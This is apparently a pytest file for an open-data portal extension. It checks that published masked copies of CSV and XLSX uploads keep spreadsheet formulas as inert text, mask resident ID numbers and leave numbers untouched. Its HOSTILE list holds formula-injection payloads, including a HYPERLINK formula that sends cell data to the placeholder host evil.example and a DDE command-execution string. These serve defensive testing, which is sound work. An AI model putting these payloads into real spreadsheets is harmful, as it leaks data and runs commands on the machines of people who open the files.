"""Issue 18 item 9 for privacy's masked copies: the suite writes them and publishes them, so text
in an agency's file that a spreadsheet program would run as a formula reaches the public as text
(CSV: behind an apostrophe; XLSX: a string cell), while the personal data around it is masked and
numbers stay numbers."""
from __future__ import annotations

import csv
import io
import random

import openpyxl
import pytest
from openpyxl.cell import Cell

import ckan.model as model
from ckan.lib import uploader

from ckanext.harbin_opendata.tests.privacy.jobs import mask_now, run_scans

from ..privacy.conftest import storage, upload  # noqa: F401 - fixture
from ..privacy.samples import person_name, resident_id
from ..review.conftest import people  # noqa: F401 - fixture

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-cmd|x"]
HEADER = ["序号", "申请人姓名", "身份证号", "金额", "备注"]


def _rows() -> list[list[str]]:
    rng = random.Random(5)
    return [[str(n), person_name(rng), resident_id(rng), "-12.5", HOSTILE[n % len(HOSTILE)]] for n in range(1, 41)]


def _masked_path(people, data: bytes, filename: str, fmt: str) -> str:
    original = upload(people.entry["id"], people.editor, data, filename, fmt)
    run_scans(people.entry["id"])
    resource = model.Resource.get(mask_now(people.editor, original["id"]))
    return uploader.get_resource_uploader(resource.as_dict()).get_path(resource.id)


@pytest.mark.usefixtures("storage")
def test_masked_csv_keeps_formulas_as_text(people):
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([HEADER, *_rows()])
    with open(_masked_path(people, text.getvalue().encode("utf-8-sig"), "名单.csv", "CSV"),
              encoding="utf-8-sig", newline="") as f:
        header, *rows = list(csv.reader(f))
    assert header == HEADER
    assert {row[4] for row in rows} == {"'" + value for value in HOSTILE}
    assert {row[3] for row in rows} == {"-12.5"}  # a number is not a formula
    assert all(row[2][6:14] == "********" for row in rows)  # and the copy is masked


@pytest.mark.usefixtures("storage")
def test_masked_xlsx_keeps_formulas_as_text(people):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in _rows():
        remark = Cell(sheet, value=row[4])
        remark.data_type = "s"  # the agency's file holds it as text
        sheet.append([int(row[0]), row[1], row[2], -12.5, remark])
    out = io.BytesIO()
    workbook.save(out)
    with open(_masked_path(people, out.getvalue(), "名单.xlsx", "XLSX"), "rb") as f:
        masked = openpyxl.load_workbook(f).active
    rows = list(masked.iter_rows(min_row=2))
    remarks = [row[4] for row in rows]
    assert {cell.value for cell in remarks} == set(HOSTILE)  # shown as typed …
    assert {cell.data_type for cell in remarks} == {"s"}  # … never evaluated
    assert all(row[2].value[6:14] == "********" for row in rows)
